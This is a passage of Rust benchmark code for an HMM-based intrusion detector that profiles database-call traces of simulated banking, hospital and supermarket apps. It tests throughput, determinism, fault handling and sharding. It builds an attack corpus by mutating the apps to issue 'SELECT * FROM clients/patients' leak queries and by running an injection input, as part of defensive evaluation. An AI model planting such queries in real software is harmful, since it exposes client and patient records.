    let mut corpus_config = ConstructorConfig::default();
    corpus_config.train.max_iterations = max_iterations;
    if kernel.is_some() {
        // Kernelled corpora flatten Baum–Welch's floor dust so the CSR
        // decomposition is sparse (and, at ε = 0, exact).
        corpus_config.flatten_epsilon = 1e-4;
    }

    struct CorpusApp {
        name: &'static str,
        workload: Workload,
        analysis: adprom_analysis::Analysis,
        traces: Vec<Vec<CallEvent>>,
        profile: adprom_core::Profile,
    }
    let corpus_apps: Vec<CorpusApp> = [
        ("banking", banking::workload(cases, 0x7AB1)),
        ("hospital", hospital::workload(cases, 9)),
    ]
    .into_iter()
    .map(|(name, w)| {
        let analysis = analyze(&w.program);
        let traces = w.collect_traces(&analysis.site_labels);
        let (app_profile, _) =
            build_profile(&format!("App_{name}"), &analysis, &traces, &corpus_config);
        CorpusApp {
            name,
            workload: w,
            analysis,
            traces,
            profile: app_profile,
        }
    })
    .collect();

    // The §V-C program mutators per app; attack 5 is a malicious input
    // on the unmodified banking binary. A mutator that finds no target
    // in an app (e.g. no reusable print) simply contributes no family.
    let mut families: Vec<(String, &'static str, Vec<Vec<CallEvent>>)> = Vec::new();
    for app in &corpus_apps {
        let query = format!(
            "SELECT * FROM {}",
            if app.name == "banking" {
                "clients"
            } else {
                "patients"
            }
        );
        let mutants = [
            (
                "attack1",
                attack1_insert_similar_print(&app.workload.program),
            ),
            (
                "attack2",
                attack2_new_call_in_function(&app.workload.program, &query),
            ),
            ("attack3", attack3_reuse_print(&app.workload.program)),
            (
                "attack4",
                attack4_binary_patch(&app.workload.program, &query),
            ),
        ];
        for (attack, outcome) in mutants {
            let Some(outcome) = outcome else { continue };
            let attacked = Workload {
                name: app.workload.name.clone(),
                dbms: app.workload.dbms,
                program: outcome.program,
                make_db: app.workload.make_db,
                test_cases: app.workload.test_cases.clone(),
            };
            // Detection-time instrumentation re-analyzes the mutant.
            let attacked_analysis = analyze(&attacked.program);
            let attacked_traces: Vec<Vec<CallEvent>> = attacked
                .test_cases
                .iter()
                .take(corpus_cases)
                .map(|case| attacked.run_case(case, &attacked_analysis.site_labels))
                .collect();
            families.push((format!("{}/{attack}", app.name), app.name, attacked_traces));
        }
    }
    let banking_app = &corpus_apps[0];
    families.push((
        "banking/attack5".to_string(),
        "banking",
        vec![banking_app.workload.run_case(
            &banking::injection_case(),
            &banking_app.analysis.site_labels,
        )],
    ));

    let profiles = {
        let corpus_registry = match kernel {
            Some(config) => ProfileRegistry::new().with_kernel(config),
            None => ProfileRegistry::new(),
        };
        for app in &corpus_apps {
            corpus_registry
                .register(app.name, app.profile.clone())
                .expect("corpus profile validates");
        }
        Arc::new(corpus_registry)
    };

    // One attacked session per collected trace; sessions are named
    // `<app>/<attack>#<case>` so records group back to their family.
    let attack_sessions: Vec<(String, String, Vec<CallEvent>)> = families
        .iter()
        .flat_map(|(family, app, attacked_traces)| {
            attacked_traces
                .iter()
                .enumerate()
                .map(move |(i, t)| (app.to_string(), format!("{family}#{i}"), t.clone()))
        })
        .collect();
    let benign_sessions: Vec<(String, String, Vec<CallEvent>)> = corpus_apps
        .iter()
        .flat_map(|app| {
            app.traces.iter().enumerate().map(move |(i, t)| {
                (
                    app.name.to_string(),
                    format!("{}-benign-{i}", app.name),
                    t.clone(),
                )
            })
        })
        .collect();
    AttackCorpus {
        profiles,
        attack_sessions,
        benign_sessions,
    }
}

fn main() {
    let mut metrics_out: Option<String> = None;
    let mut smoke = false;
    let mut sparse = false;
    let mut beam = false;
    let mut faults = false;
    let mut multiapp = false;
    let mut forensics = false;
    let mut simd = false;
    let mut overload = false;
    let mut service = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--metrics-out" => {
                metrics_out = Some(args.next().expect("--metrics-out requires a path"));
            }
            "--smoke" => smoke = true,
            "--sparse" => sparse = true,
            "--beam" => beam = true,
            "--simd" => simd = true,
            "--faults" => faults = true,
            "--multiapp" => multiapp = true,
            "--forensics" => forensics = true,
            "--overload" => overload = true,
            "--service" => service = true,
            other => {
                eprintln!("unknown argument: {other}");
                eprintln!(
                    "usage: bench_detect [--smoke] [--sparse] [--beam] [--simd] [--faults] \
                     [--multiapp] [--forensics] [--overload] [--service] [--metrics-out <path>]"
                );
                std::process::exit(2);
            }
        }
    }
    // Bare --metrics-out filenames land under target/ (with the other
    // build products) instead of littering the repo root; explicit
    // directories are honored as given.
    let metrics_out = metrics_out.map(|path| {
        if path.contains('/') {
            path
        } else {
            format!("target/{path}")
        }
    });
    std::fs::create_dir_all("target").expect("create target dir");
    let (cases, max_iterations, max_runs, budget_secs) = if smoke {
        (12, 3, 2, 0.3)
    } else {
        (48, 6, 12, 1.5)
    };
    let kernel_mode = if beam {
        "beam"
    } else if sparse {
        "sparse"
    } else {
        "dense"
    };
    // One label per run shape: history entries carry it so gates select
    // the latest entry per (workload, mode) instead of guessing by tail
    // position across heterogeneous runs.
    let mode_label = if service {
        "service"
    } else if overload {
        "overload"
    } else if simd {
        "simd"
    } else if multiapp {
        "multiapp"
    } else if forensics {
        "forensics"
    } else if faults {
        "faults"
    } else {
        kernel_mode
    };
    let kernel_config = if beam {
        // Mass-threshold pruning only: states carrying < 1e-6 combined
        // scaled-α mass are dropped, so the score error (tracked by the
        // gap-bound gauge) stays far below the 1.5-nat threshold margin.
        KernelConfig::Beam {
            sparse: SparseConfig::default(),
            beam: BeamConfig {
                top_k: None,
                mass_epsilon: 1e-6,
            },
        }
    } else if sparse {
        KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        }
    } else {
        KernelConfig::Dense
    };

    // The CA hospital application at a batch size that models a busy
    // monitoring interval: many independent sessions, window n = 15.
    let registry = Registry::new();
    let workload = hospital::workload(cases, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = max_iterations;
    config.registry = registry.clone();
    if sparse || beam || simd {
        // Collapse Baum–Welch's floor dust back to a bit-exact per-row
        // background so the CSR decomposition is sparse (and, at ε = 0,
        // exact) on the trained model.
        config.flatten_epsilon = 1e-4;
    }
    let (profile, _) = build_profile("App_hospital", &analysis, &traces, &config);

    let batch: Vec<Vec<CallEvent>> = traces;
    let n_traces = batch.len();
    let events: usize = batch.iter().map(Vec::len).sum();

    // Serial dense baseline: the paper's per-window full forward pass.
    let dense_engine = DetectionEngine::new(&profile).with_registry(&registry);
    let (serial_eps, serial_alerts) = throughput(events, max_runs, budget_secs, &|| {
        batch
            .iter()
            .map(|t| dense_engine.scan(t).len())
            .sum::<usize>()
    });

    // Serial kernel path (sparse CSR / beam), when one is selected.
    let kernel_engine = DetectionEngine::new(&profile)
        .with_registry(&registry)
        .with_kernel(kernel_config);
    let kernel_serial: Option<(f64, usize)> = (sparse || beam).then(|| {
        throughput(events, max_runs, budget_secs, &|| {
            batch
                .iter()
                .map(|t| kernel_engine.scan(t).len())
                .sum::<usize>()
        })
    });

    // Exactness gate (ε = 0, no beam): the sparse kernel must reproduce
    // the dense run's alerts window for window — counts, flags and the
    // flag partition. Beam runs report the comparison without asserting
    // (their scores are intentionally approximate).
    let kernel_flags_match_dense: Option<bool> = (sparse || beam).then(|| {
        let dense_reports: Vec<Vec<Alert>> = batch.iter().map(|t| dense_engine.scan(t)).collect();
        let kernel_reports: Vec<Vec<Alert>> = batch.iter().map(|t| kernel_engine.scan(t)).collect();
        let dense_flags: Vec<Flag> = dense_reports.iter().flatten().map(|a| a.flag).collect();
        let kernel_flags: Vec<Flag> = kernel_reports.iter().flatten().map(|a| a.flag).collect();
        let matches = dense_flags == kernel_flags
            && flag_partition(&dense_reports) == flag_partition(&kernel_reports);
        if sparse && !beam {
            assert!(
                matches,
                "sparse kernel flag partition diverged from dense: {:?} vs {:?}",
                flag_partition(&kernel_reports),
                flag_partition(&dense_reports),
            );
        }
        matches
    });

    let exact = BatchDetector::new(&profile)
        .with_registry(&registry)
        .with_kernel(kernel_config);
    // Record the pool size actually in force, not an assumed core count.
    let threads = exact.threads();
    let (par_exact_eps, par_exact_alerts) = throughput(events, max_runs, budget_secs, &|| {
        exact
            .detect_batch(&batch)
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    });

    let incremental = BatchDetector::new(&profile)
        .with_registry(&registry)
        .with_kernel(kernel_config)
        .with_mode(ScoringMode::Incremental);
    let (par_inc_eps, par_inc_alerts) = throughput(events, max_runs, budget_secs, &|| {
        incremental
            .detect_batch(&batch)
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    });

    // Determinism spot-checks, not just counts: the parallel exact mode
    // must reproduce the same-kernel serial alerts verbatim; incremental
    // must agree on the alert counts.
    let ref_engine = if sparse || beam {
        &kernel_engine
    } else {
        &dense_engine
    };
    let serial_reports: Vec<_> = batch.iter().map(|t| ref_engine.scan(t)).collect();
    let exact_reports = exact.detect_batch(&batch);
    let exact_identical = serial_reports
        .iter()
        .zip(&exact_reports)
        .all(|(s, p)| s == &p.alerts);
    assert!(
        exact_identical,
        "parallel exact output diverged from serial"
    );
    assert_eq!(serial_alerts, par_exact_alerts);
    assert_eq!(serial_alerts, par_inc_alerts);

    let speedup_exact = par_exact_eps / serial_eps;
    let speedup_inc = par_inc_eps / serial_eps;

    // Baum–Welch E-step: serial vs rayon-parallel wall-clock from the same
    // initial model, and bit-identity of the trained parameters (the
    // per-trace statistics are folded in input order, so thread count must
    // not change a single bit of A, B or π).
    let windows_enc: Vec<Vec<usize>> = trace_windows(&batch, config.window)
        .iter()
        .map(|w| profile.alphabet.encode_seq(w))
        .collect();
    let csds_len = windows_enc.len() / 5;
    let (csds, train_set) = windows_enc.split_at(csds_len);
    let init = init_from_pctm(&analysis.pctm, &profile.alphabet, &config.init);
    let bw_runs = if smoke { 1 } else { 3 };
    let time_train = |parallel: bool| -> (f64, Hmm) {
        let mut train_config = config.train;
        train_config.parallel = parallel;
        let mut best = f64::INFINITY;
        let mut trained = init.hmm.clone();
        for _ in 0..bw_runs {
            let mut hmm = init.hmm.clone();
            let start = Instant::now();
            train(&mut hmm, train_set, csds, &train_config);
            best = best.min(start.elapsed().as_secs_f64());
            trained = hmm;
        }
        (best, trained)
    };
    let (bw_serial_secs, bw_serial_model) = time_train(false);
    let (bw_parallel_secs, bw_parallel_model) = time_train(true);
    let bw_bit_identical = bw_serial_model == bw_parallel_model;
    assert!(bw_bit_identical, "parallel Baum-Welch diverged from serial");
    let bw_speedup = bw_serial_secs / bw_parallel_secs;

    // Fault-injection gate: replay the batch under a deterministic fault
    // plan and require that resilience machinery never changes a verdict
    // on a trace it kept.
    let fault_fields = if faults {
        // Injected panics are expected; keep their backtraces out of the
        // bench output.
        let default_hook = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            let injected = info
                .payload()
                .downcast_ref::<String>()
                .is_some_and(|s| s.contains("fault-injected"));
            if !injected {
                default_hook(info);
            }
        }));

        let fault_registry = Registry::new();
        let health = HealthMonitor::with_registry(&fault_registry);
        let injector = FaultPlan::new(42)
            .inject(
                sites::INGEST_CORRUPT,
                FaultKind::CorruptEvent,
                Trigger::OnceForKeys([1u64].into()),
            )
            .inject(
                sites::INGEST_TRUNCATE,
                FaultKind::TruncateTrace,
                Trigger::OnceForKeys([2u64].into()),
            )
            .inject(
                sites::WORKER_PANIC,
                FaultKind::Panic,
                Trigger::OnceForKeys([0u64, 4].into()),
            )
            .inject(
                sites::SLOW_SCORE,
                FaultKind::SlowScore { millis: 2 },
                Trigger::OnceForKeys([3u64].into()),
            )
            .arm();

        let mut faulty = batch.clone();
        let injected_ingest = apply_ingest_faults(&injector, &mut faulty);
        let sessions: Vec<String> = (0..faulty.len()).map(|i| format!("conn-{i}")).collect();
        let screened = TraceValidator::new()
            .with_registry(&fault_registry)
            .screen(&sessions, &faulty);
        let quarantined = screened.quarantined.len();
        assert_eq!(quarantined, 1, "exactly the corrupt trace is quarantined");

        // Fault-free reference over the same screened input.
        let clean = BatchDetector::new(&profile)
            .with_kernel(kernel_config)
            .detect_batch(&screened.traces);
        let guarded = BatchDetector::new(&profile)
            .with_kernel(kernel_config)
            .with_registry(&fault_registry)
            .with_health(health.clone())
            .with_faults(&injector);
        let reports = guarded.detect_batch(&screened.traces);
        let recovered = reports
            .iter()
            .filter(|r| matches!(r.status, TraceStatus::Recovered(_)))
            .count();
        let verdicts_match = clean
            .iter()
            .zip(&reports)
            .all(|(c, f)| c.alerts == f.alerts && c.verdict == f.verdict);
        assert!(
            verdicts_match,
            "fault-injected run changed a kept trace's verdict"
        );
        assert_eq!(recovered as u64, injector.injected(sites::WORKER_PANIC));
        assert_eq!(health.state(), Health::Degraded);

        // Queue-overflow fail point: stream the screened sessions through
        // a MonitorRuntime whose hard ingest bound is tripped by injected
        // QueueOverflow faults every few events. The forced backpressure
        // flushes reshape the batch boundaries but must not change a
        // single verdict versus the fault-free streaming run.
        let overflow_sessions: Vec<(String, String, Vec<CallEvent>)> = screened
            .sessions
            .iter()
            .zip(&screened.traces)
            .map(|(s, t)| ("hospital".to_string(), s.clone(), t.clone()))
            .collect();
        let overflow_stream = interleave(&overflow_sessions, 0x0F10);
        let run_stream = |injector: Option<&FaultInjector>| -> String {
            let stream_profiles = ProfileRegistry::new();
            stream_profiles
                .register("hospital", profile.clone())
                .expect("profile validates");
            let mut runtime = MonitorRuntime::new(Arc::new(stream_profiles));
            if let Some(injector) = injector {
                runtime = runtime.with_faults(injector);
            }
            runtime.ingest_stream(&overflow_stream);
            format!("{:?}", runtime.finish())
        };
        let overflow_injector = FaultPlan::new(43)
            .inject(
                sites::MONITOR_QUEUE_OVERFLOW,
                FaultKind::QueueOverflow,
                Trigger::EveryNth(7),
            )
            .arm();
        let clean_verdicts = run_stream(None);
        let overflow_verdicts = run_stream(Some(&overflow_injector));
        let overflow_injected = overflow_injector.injected(sites::MONITOR_QUEUE_OVERFLOW);
        assert!(overflow_injected > 0, "overflow fail point never fired");
        let overflow_verdicts_match = clean_verdicts == overflow_verdicts;
        assert!(
            overflow_verdicts_match,
            "injected queue overflow changed a session verdict"
        );

        println!("== Fault injection ==");
        println!(
            "ingest faults applied: {injected_ingest} ({quarantined} corrupt quarantined, \
             truncated traces kept)"
        );
        println!(
            "worker panics injected: {}, recovered: {recovered}, verdicts match \
             fault-free run: {verdicts_match}, health: {}",
            injector.injected(sites::WORKER_PANIC),
            health.state()
        );
        println!(
            "queue overflows injected: {overflow_injected}, streaming verdicts match \
             fault-free run: {overflow_verdicts_match}"
        );
        format!(
            "    \"fault_injection\": true,\n    \
             \"fault_ingest_applied\": {injected_ingest},\n    \
             \"fault_quarantined\": {quarantined},\n    \
             \"fault_panics_recovered\": {recovered},\n    \
             \"fault_verdicts_match_clean\": {verdicts_match},\n    \
             \"fault_overflow_injected\": {overflow_injected},\n    \
             \"fault_overflow_verdicts_match\": {overflow_verdicts_match},\n"
        )
    } else {
        String::new()
    };

    // Multi-application monitoring gate: three CA-dataset applications'
    // sessions interleaved into one stream through a ProfileRegistry and
    // a session-multiplexed MonitorRuntime (incremental mode, sparse
    // kernel). Every session's alerts must be identical to a per-app
    // serial scan of its de-interleaved trace, and the multiplexed
    // throughput is recorded against the per-app batched incremental
    // path over the exact same workload.
    let multiapp_fields = if multiapp {
        let sessions_per_app = 64;
        let mut app_config = ConstructorConfig::default();
        app_config.train.max_iterations = max_iterations;
        app_config.flatten_epsilon = 1e-4; // sparse-exact CSR decomposition
        type AppBuild = (&'static str, fn(usize, u64) -> Workload);
        let builds: [AppBuild; 3] = [
            ("banking", banking::workload),
            ("supermarket", supermarket::workload),
            ("hospital", hospital::workload),
        ];
        let apps: Vec<(&str, Vec<Vec<CallEvent>>, adprom_core::Profile)> = builds
            .iter()
            .enumerate()
            .map(|(i, (name, make))| {
                let w = make(sessions_per_app, 9 + i as u64);
                let a = analyze(&w.program);
                let t = w.collect_traces(&a.site_labels);
                let (p, _) = build_profile(&format!("App_{name}"), &a, &t, &app_config);
                (*name, t, p)
            })
            .collect();

        let sparse_kernel = KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        };
        let profiles = ProfileRegistry::new().with_kernel(sparse_kernel);
        for (name, _, app_profile) in &apps {
            profiles
                .register(name, app_profile.clone())
                .expect("CA-dataset profile validates");
        }
        let profiles = Arc::new(profiles);

        let sessions: Vec<(String, String, Vec<CallEvent>)> = apps
            .iter()
            .flat_map(|(name, traces, _)| {
                traces
                    .iter()
                    .enumerate()
                    .map(move |(i, t)| (name.to_string(), format!("{name}-{i}"), t.clone()))
            })
            .collect();
        let stream = interleave(&sessions, 0x5E55);
        let n_sessions = sessions.len();
        let m_events = stream.len();
        let incremental_config = RuntimeConfig {
            mode: ScoringMode::Incremental,
            queue_capacity: 0,
            ..RuntimeConfig::default()
        };

        // Verdict gate (untimed, with monitor metrics attached): the
        // multiplexed runtime must reproduce each per-app serial
        // incremental scan bit for bit.
        let monitor_obs = Registry::new();
        let reports = {
            let mut runtime = MonitorRuntime::new(Arc::clone(&profiles))
                .with_config(incremental_config.clone())
                .with_registry(&monitor_obs);
            runtime.ingest_stream(&stream);
            runtime.finish()
        };
        assert_eq!(reports.len(), n_sessions, "one report per session");
        let mut verdicts_match = true;
        for report in &reports {
            assert_eq!(report.end, SessionEnd::Finished, "no evictions expected");
            let (_, _, trace) = sessions
                .iter()
                .find(|(a, s, _)| *a == report.app && *s == report.session)
                .expect("report maps to an ingested session");
            let scorer = profiles.scorer(&report.app).expect("registered app");
            let (serial, _) = scorer.scan_incremental(trace, &report.session);
            verdicts_match &= format!("{:?}", report.alerts) == format!("{serial:?}");
        }
        assert!(
            verdicts_match,
            "multiapp runtime verdicts diverged from per-app serial scans"
        );
        let status = reports[0].kernel.clone();
        assert!(
            status.fallback_reason.is_none(),
            "flattened CA profiles must keep the sparse kernel"
        );
        let multi_reports: Vec<Vec<Alert>> = reports.iter().map(|r| r.alerts.clone()).collect();
        let multi_partition = flag_partition(&multi_reports);
        let multi_alerts: usize = multi_reports.iter().map(Vec::len).sum();

        // Single-app baseline: the same traces through the per-app
        // batched incremental path (sparse kernel, no multiplexing).
        let detectors: Vec<(BatchDetector, &Vec<Vec<CallEvent>>)> = apps
            .iter()
            .map(|(_, traces, app_profile)| {
                (
                    BatchDetector::new(app_profile)
                        .with_kernel(sparse_kernel)
                        .with_mode(ScoringMode::Incremental),
                    traces,
                )
            })
            .collect();

        // Throughput under noise: this box drifts 20%+ between runs, so
        // the two paths are timed adjacently in paired rounds and the
        // recorded ratio is the best pairing — drift cancels within a
        // pair where it would not across separately-timed blocks.
        let rounds = if smoke { 4 } else { max_runs.max(8) };
        let mut multi_eps = 0.0f64;
        let mut single_eps = 0.0f64;
        let mut ratio = 0.0f64;
        for _ in 0..rounds {
            let start = Instant::now();
            let mut runtime =
                MonitorRuntime::new(Arc::clone(&profiles)).with_config(incremental_config.clone());
            runtime.ingest_stream(&stream);
            let timed_alerts: usize = runtime.finish().iter().map(|r| r.alerts.len()).sum();
            let m = m_events as f64 / start.elapsed().as_secs_f64();
            assert_eq!(
                timed_alerts, multi_alerts,
                "multiplexed runs must be deterministic"
            );

            let start = Instant::now();
            let single_alerts: usize = detectors
                .iter()
                .map(|(d, traces)| {
                    d.detect_batch(traces)
                        .iter()
                        .map(|r| r.alerts.len())
                        .sum::<usize>()
                })
                .sum();
            let s = m_events as f64 / start.elapsed().as_secs_f64();
            assert_eq!(
                single_alerts, multi_alerts,
                "per-app batch alerts must match the multiplexed runtime"
            );

            multi_eps = multi_eps.max(m);
            single_eps = single_eps.max(s);
            ratio = ratio.max(m / s);
        }

        let snap = monitor_obs.snapshot();
        println!("== Multi-application monitoring ==");
        println!(
            "{} apps x {sessions_per_app} sessions: {n_sessions} sessions, {m_events} events, \
             kernel {} -> {}",
            apps.len(),
            status.requested,
            status.effective,
        );
        println!(
            "sessions opened {}, finished {}, flushes {}, lru/idle evictions {}/{}",
            snap.counter("monitor.sessions.opened").unwrap_or(0),
            snap.counter("monitor.sessions.finished").unwrap_or(0),
            snap.counter("monitor.flushes").unwrap_or(0),
            snap.counter("monitor.evictions.lru").unwrap_or(0),
            snap.counter("monitor.evictions.idle").unwrap_or(0),
        );
        // Per-stage latency spans from the verdict-gate run: the
        // ingest → score → commit → finalize histograms the runtime's
        // serial clock recorded under the attached registry.
        let mut stage_fields = String::new();
        for stage in ["ingest", "score", "commit", "finalize"] {
            if let Some(h) = snap.histograms.get(&format!("monitor.stage.{stage}_ns")) {
                println!(
                    "stage {stage:<9}: p50 {:>8.0}ns  p99 {:>9.0}ns  max {:>9}ns  \
                     ({} samples)",
                    h.p50, h.p99, h.max, h.count
                );
                stage_fields.push_str(&format!(
                    "    \"multiapp_stage_{stage}_p50_ns\": {:.0},\n    \
                     \"multiapp_stage_{stage}_p99_ns\": {:.0},\n",
                    h.p50, h.p99
                ));
            }
        }
        println!("multiplexed runtime (incremental): {multi_eps:>12.0} events/sec");
        println!(
            "per-app batch       (incremental): {single_eps:>12.0} events/sec  \
             (ratio {ratio:.2})"
        );
        println!("verdicts match per-app serial scans: {verdicts_match}\n");
        if ratio < 0.8 {
            eprintln!("warning: multiapp throughput ratio {ratio:.2} below the 0.8 target");
        }
        // Like standard mode, a multiplexed run leaves a metrics artifact:
        // the monitor registry snapshot lands next to the main one.
        if let Some(path) = &metrics_out {
            let multiapp_path = match path.rsplit_once('.') {
                Some((stem, ext)) => format!("{stem}.multiapp.{ext}"),
                None => format!("{path}.multiapp"),
            };
            std::fs::write(&multiapp_path, snap.to_json())
                .expect("write multiapp metrics snapshot");
            println!("wrote multiapp monitor metrics snapshot to {multiapp_path}");
        }

        format!(
            "    \"multiapp\": true,\n    \
             \"multiapp_apps\": {},\n    \
             \"multiapp_sessions\": {n_sessions},\n    \
             \"multiapp_events\": {m_events},\n    \
             \"multiapp_kernel_requested\": \"{}\",\n    \
             \"multiapp_kernel_effective\": \"{}\",\n    \
             \"multiapp_alerts\": {multi_alerts},\n    \
             \"multiapp_flag_partition\": [{}, {}, {}, {}],\n    \
             \"multiapp_events_per_sec\": {multi_eps:.0},\n    \
             \"single_app_incremental_events_per_sec\": {single_eps:.0},\n    \
             \"multiapp_vs_single_app_ratio\": {ratio:.2},\n    \
             \"multiapp_verdicts_match_serial\": {verdicts_match},\n{stage_fields}",
            apps.len(),
            status.requested,
            status.effective,
            multi_partition[0],
            multi_partition[1],
            multi_partition[2],
            multi_partition[3],
        )
    } else {
        String::new()
    };

    // Sharded-service gate: the same 3-app corpus, shipped through the
    // ADP1 framed wire path into a ShardedMonitor at shard counts
    // {1, 2, 4, 8}. Verdicts must be bit-identical to one unsharded
    // runtime; a mid-stream cross-shard hot-swap must never split a
    // session's windows across epochs; and the shard array must show
    // near-linear capacity scaling.
    let service_fields = if service {
        let sessions_per_app = 64;
        let mut app_config = ConstructorConfig::default();
        app_config.train.max_iterations = max_iterations;
        app_config.flatten_epsilon = 1e-4; // sparse-exact CSR decomposition
        type AppBuild = (&'static str, fn(usize, u64) -> Workload);
        let builds: [AppBuild; 3] = [
            ("banking", banking::workload),
            ("supermarket", supermarket::workload),
            ("hospital", hospital::workload),
        ];
        let apps: Vec<(&str, Vec<Vec<CallEvent>>, adprom_core::Profile)> = builds
            .iter()
            .enumerate()
            .map(|(i, (name, make))| {
                let w = make(sessions_per_app, 9 + i as u64);
                let a = analyze(&w.program);
                let t = w.collect_traces(&a.site_labels);
                let (p, _) = build_profile(&format!("App_{name}"), &a, &t, &app_config);
                (*name, t, p)
            })
            .collect();
        let sparse_kernel = KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        };
        let make_registry = || {
            let profiles = ProfileRegistry::new().with_kernel(sparse_kernel);
            for (name, _, app_profile) in &apps {
                profiles
                    .register(name, app_profile.clone())
                    .expect("CA-dataset profile validates");
            }
            Arc::new(profiles)
        };
        let profiles = make_registry();

        let sessions: Vec<(String, String, Vec<CallEvent>)> = apps
            .iter()
            .flat_map(|(name, traces, _)| {
                traces
                    .iter()
                    .enumerate()
                    .map(move |(i, t)| (name.to_string(), format!("{name}-{i}"), t.clone()))
            })
            .collect();
        let stream = interleave(&sessions, 0x5E55);
        let n_sessions = sessions.len();
        let m_events = stream.len();
        let incremental_config = RuntimeConfig {
            mode: ScoringMode::Incremental,
            queue_capacity: 0,
            ..RuntimeConfig::default()
        };

        // Frame the corpus once; every service ingest below decodes it.
        let frame_batch = 256;
        let frames = encode_stream(&stream, frame_batch);
        let frame_count = m_events.div_ceil(frame_batch);

        // Unsharded baseline: the verdicts every shard count must hit.
        let baseline: BTreeMap<(String, String), String> = {
            let mut runtime =
                MonitorRuntime::new(Arc::clone(&profiles)).with_config(incremental_config.clone());
            runtime.ingest_stream(&stream);
            runtime
                .finish()
                .into_iter()
                .map(|r| ((r.app, r.session), format!("{:?}", r.alerts)))
                .collect()
        };
        assert_eq!(baseline.len(), n_sessions, "one verdict per session");

        // Verdict gate per shard count (untimed): framed ingest through
        // the sharded service, bit-identical per-session alerts.
        let shard_counts = [1usize, 2, 4, 8];
        let mut service_alerts = 0usize;
        let mut shard_events_s4: Vec<u64> = Vec::new();
        let mut shard_partition_s4: Vec<[usize; 4]> = Vec::new();
        for &shards in &shard_counts {
            let mut svc = ShardedMonitor::new(Arc::clone(&profiles), shards)
                .with_config(incremental_config.clone());
            let ingest = svc.ingest_frames(&frames);
            assert_eq!(ingest.frames, frame_count, "every frame decodes");
            assert!(
                ingest.frame_defects.is_empty(),
                "{:?}",
                ingest.frame_defects
            );
            assert!(ingest.quarantined.is_empty(), "clean corpus screens clean");
            assert_eq!(ingest.admitted, m_events, "every event admitted");
            if shards == 4 {
                shard_events_s4 = svc.snapshot().iter().map(|s| s.tally.ingested).collect();
            }
            let reports = svc.finish();
            assert_eq!(reports.len(), n_sessions, "one report per session");
            for report in &reports {
                let key = (report.app.clone(), report.session.clone());
                assert_eq!(
                    &format!("{:?}", report.alerts),
                    &baseline[&key],
                    "shards={shards}: {}/{} diverged from the unsharded runtime",
                    report.app,
                    report.session
                );
            }
            service_alerts = reports.iter().map(|r| r.alerts.len()).sum();
            if shards == 4 {
                shard_partition_s4 = (0..4)
                    .map(|s| {
                        let own: Vec<SessionReport> = reports
                            .iter()
                            .filter(|r| shard_for(&r.app, &r.session, 4) == s)
                            .cloned()
                            .collect();
                        verdict_partition(&own)
                    })
                    .collect();
            }
        }

        // Hot-swap coherence at shards = 4: swap banking's profile
        // mid-stream (a cross-shard publish barrier) and require every
        // session's report to sit entirely at one epoch — the epoch in
        // force when its first event arrived.
        let swap_epoch;
        {
            let mut svc =
                ShardedMonitor::new(make_registry(), 4).with_config(incremental_config.clone());
            let half = m_events / 2;
            svc.ingest_frames(&encode_stream(&stream[..half], frame_batch));
            let mut banking_v2 = apps[0].2.clone();
            banking_v2.threshold -= 1.0;
            swap_epoch = svc
                .swap_profile("banking", banking_v2)
                .expect("swapped profile validates");
            assert_eq!(swap_epoch, 2, "second banking epoch");
            svc.ingest_frames(&encode_stream(&stream[half..], frame_batch));
            for report in svc.finish() {
                let first = stream
                    .iter()
                    .position(|t| t.app == report.app && t.session == report.session)
                    .expect("session is on the stream");
                let expected = if report.app == "banking" && first >= half {
                    2
                } else {
                    1
                };
                assert_eq!(
                    report.epoch, expected,
                    "{}/{} (first event {first}) split across the swap barrier",
                    report.app, report.session
                );
            }
        }

        // Capacity scaling: each shard's framed substream replayed on its
        // own runtime with per-shard timers, all shard counts timed
        // adjacently per round so machine drift cancels across counts.
        // This box has one core, so shards are timed one at a time and
        // the aggregate is the critical-path model: total events over the
        // slowest shard — the array's throughput when each shard owns a
        // core. The serial wall number (sum of shard times) is recorded
        // alongside it.
        let part_frames: Vec<Vec<Vec<u8>>> = shard_counts
            .iter()
            .map(|&shards| {
                partition_stream(&stream, shards)
                    .iter()
                    .map(|part| encode_stream(part, frame_batch))
                    .collect()
            })
            .collect();
        let rounds = if smoke { 3 } else { max_runs.max(6) };
        let mut best_critical = [f64::INFINITY; 4];
        let mut best_serial = [f64::INFINITY; 4];
        for _ in 0..rounds {
            for (i, frames_per_shard) in part_frames.iter().enumerate() {
                let mut slowest = 0f64;
                let mut wall = 0f64;
                let mut alerts = 0usize;
                for shard_frames in frames_per_shard {
                    let mut shard = ShardedMonitor::new(Arc::clone(&profiles), 1)
                        .with_config(incremental_config.clone());
                    let start = Instant::now();
                    shard.ingest_frames(shard_frames);
                    alerts += shard.finish().iter().map(|r| r.alerts.len()).sum::<usize>();
                    let secs = start.elapsed().as_secs_f64();
                    slowest = slowest.max(secs);
                    wall += secs;
                }
                assert_eq!(
                    alerts, service_alerts,
                    "timed replays must be deterministic"
                );
                best_critical[i] = best_critical[i].min(slowest);
                best_serial[i] = best_serial[i].min(wall);
            }
        }
        let aggregate_eps: Vec<f64> = best_critical.iter().map(|s| m_events as f64 / s).collect();
        let serial_eps: Vec<f64> = best_serial.iter().map(|s| m_events as f64 / s).collect();
        let scaling_4x = aggregate_eps[2] / aggregate_eps[0];

        println!("== Sharded monitoring service ==");
        println!(
            "{} apps x {sessions_per_app} sessions: {n_sessions} sessions, {m_events} events, \
             {frame_count} frames ({} bytes on the wire)",
            apps.len(),
            frames.len(),
        );
        println!("verdicts bit-identical to the unsharded runtime at shards {{1, 2, 4, 8}}");
        println!(
            "mid-stream banking hot-swap published epoch {swap_epoch}; no session split \
             across the barrier"
        );
        println!("shard event partition at 4 shards: {shard_events_s4:?}");
        for (i, &shards) in shard_counts.iter().enumerate() {
            println!(
                "shards {shards}: {:>12.0} events/sec aggregate (critical path)  \
                 {:>12.0} events/sec serial wall",
                aggregate_eps[i], serial_eps[i],
            );
        }
        println!("scaling at 4 shards: {scaling_4x:.2}x\n");
        assert!(
            scaling_4x >= 2.0,
